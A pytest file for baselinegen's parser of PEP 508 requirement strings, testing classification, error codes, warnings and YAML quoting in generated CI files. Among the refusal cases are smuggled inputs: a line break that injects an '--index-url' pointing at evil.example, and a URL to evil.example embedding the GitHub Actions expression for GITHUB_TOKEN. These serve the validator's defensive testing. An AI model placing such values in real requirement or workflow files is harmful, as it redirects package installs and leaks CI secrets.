"""ci.baselinegen parsed and classified (packaging's PEP 508 parser), its errors and warnings, and how the CI files
it reaches are read back."""

from __future__ import annotations

import json
import re

import pytest
import yaml
from hypothesis import example, given
from hypothesis import strategies as st

from baselinegen import api
from baselinegen.components.ci import requirement
from baselinegen.components.ci.requirement import RequirementError, parse, warning

from conftest import write_acme


@pytest.mark.parametrize("text, kind, version, repo, rev", [
    ("baselinegen==0.2.0", "pin", "0.2.0", "", ""),
    ("Baselinegen===0.2", "pin", "0.2", "", ""),
    ('baselinegen[x]==0.2.0; python_version >= "3.10"', "pin", "0.2.0", "", ""),
    ("baselinegen>=0.1", "specifier", "", "", ""),
    ("baselinegen==0.2.*", "specifier", "", "", ""),
    ("baselinegen", "specifier", "", "", ""),
    ("baselinegen @ git+https://github.com/acme/baselinegen@v0.2.0", "git", "", "https://github.com/acme/baselinegen", "v0.2.0"),
    ("baselinegen @ git+ssh://git@github.com/acme/baselinegen.git@4f1c2e9#egg=baselinegen", "git", "",
     "ssh://git@github.com/acme/baselinegen.git", "4f1c2e9"),
    ("baselinegen @ https://files.example/baselinegen-0.2.0-py3-none-any.whl", "url", "", "", ""),
])
def test_a_requirement_is_a_pin_another_specifier_a_git_url_or_another_url(text, kind, version, repo, rev):
    parsed = parse(text)
    assert (parsed.kind, parsed.version, parsed.repo, parsed.rev) == (kind, version, repo, rev)


@pytest.mark.parametrize("text, code, message", [
    ("baselinegen=0.2.0", "E266",
     "not a pip requirement (PEP 508): Expected semicolon (after name with no version specifier) or end"),
    ("", "E266", "not a pip requirement (PEP 508): Expected package name at the start of dependency specifier"),
    ("baselinegen==0.2.0\n--index-url https://evil.example", "E266",
     "not a pip requirement (PEP 508): it holds a line break or another control character"),
    ("baselinegen @ https://evil.example/${{secrets.GITHUB_TOKEN}}", "E266",
     "holds ${{, which GitHub Actions evaluates as an expression in the workflow; write the URL without it"),
    ("baselinegem==0.2.0", "E267",
     "installs 'baselinegem', not baselinegen: CI runs baselinegen check and diff with it (did you mean 'baselinegen'?)"),
    ("requests==2.0", "E267", "installs 'requests', not baselinegen: CI runs baselinegen check and diff with it"),
    ("baselinegen @ git+https://github.com/acme/baselinegen", "E268",
     "the git URL names no revision: add @<tag or commit> (baselinegen @ git+https://github.com/acme/baselinegen@v0.2.0); "
     "pre-commit needs a rev, and CI would install whatever the default branch holds"),
])
def test_a_requirement_ci_cannot_use_is_refused_with_the_reason(text, code, message):
    with pytest.raises(RequirementError) as raised:
        parse(text)
    assert (raised.value.code, str(raised.value)) == (code, message)


def test_no_pin_and_another_pin_warn_a_git_revision_and_the_running_version_do_not():
    assert warning(parse("baselinegen>=0.1"), "0.1.0")[0] == "W437"
    assert warning(parse("baselinegen==0.0.9"), "0.1.0")[0] == "W438"
    assert warning(parse("baselinegen==0.1"), "0.1.0") is None  # the same version, written shorter
    assert warning(parse("baselinegen @ git+https://github.com/acme/baselinegen@v0.0.9"), "0.1.0") is None


def test_a_requirement_with_quotes_stays_one_yaml_value_in_both_ci_files(tmp_path):
    hostile = 'baselinegen @ https://files.example/a"b\'c]#d.whl'
    # JSON's string syntax is YAML's double-quoted style
    path = write_acme(tmp_path / "acme.yaml", ("\nci:\n", f"\nci:\n  baselinegen: {json.dumps(hostile)}\n"))
    files = {f.path: f.content for f in api.render_tree(api.load_profile(path).profile).files}
    assert yaml.safe_load(files[".github/workflows/terraform.yml"])["env"]["BASELINEGEN_REQUIREMENT"] == hostile
    local = yaml.safe_load(files[".pre-commit-config.yaml"])["repos"][-1]
    assert local["hooks"][0]["additional_dependencies"] == [hostile]


def test_two_requirements_are_the_same_when_they_install_the_same_baselinegen():
    assert parse("baselinegen==0.1").same_as(parse("Baselinegen == 0.1.0"))
    assert parse("baselinegen>=0.1,<1").same_as(parse("baselinegen<1, >=0.1"))
    assert not parse("baselinegen==0.1.0").same_as(parse("baselinegen @ git+https://github.com/acme/baselinegen@v0.1.0"))
    assert not parse("baselinegen @ git+https://github.com/acme/baselinegen@v0.1.0").same_as(
        parse("baselinegen @ git+https://github.com/acme/baselinegen@v0.2.0"))


@given(st.lists(st.integers(0, 10**6), min_size=1, max_size=5).map(lambda parts: ".".join(map(str, parts))))
@example("01.2")
@example("0")
def test_a_release_pin_read_without_packaging_is_what_packaging_reads(version):
    text = f"baselinegen=={version}"
    quick = parse(text)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(requirement, "_RELEASE_PIN", re.compile(r"(?!)"))  # every text through packaging
        assert parse(text) == quick == requirement.BaselinegenRequirement(text, requirement.PIN, version=version)


@pytest.mark.parametrize("text, kind, version", [
    ("Baselinegen==1.0", "pin", "1.0"), ("baselinegen == 1.0", "pin", "1.0"), ("baselinegen==1.0.*", "specifier", ""),
    ("baselinegen==1.0rc1", "pin", "1.0rc1"), ("baselinegen===1.0", "pin", "1.0"), ("baselinegen[x]==1.0", "pin", "1.0"),
])
def test_other_pins_are_left_to_packaging(text, kind, version):
    assert requirement._RELEASE_PIN.fullmatch(text) is None
    assert (parse(text).kind, parse(text).version) == (kind, version)
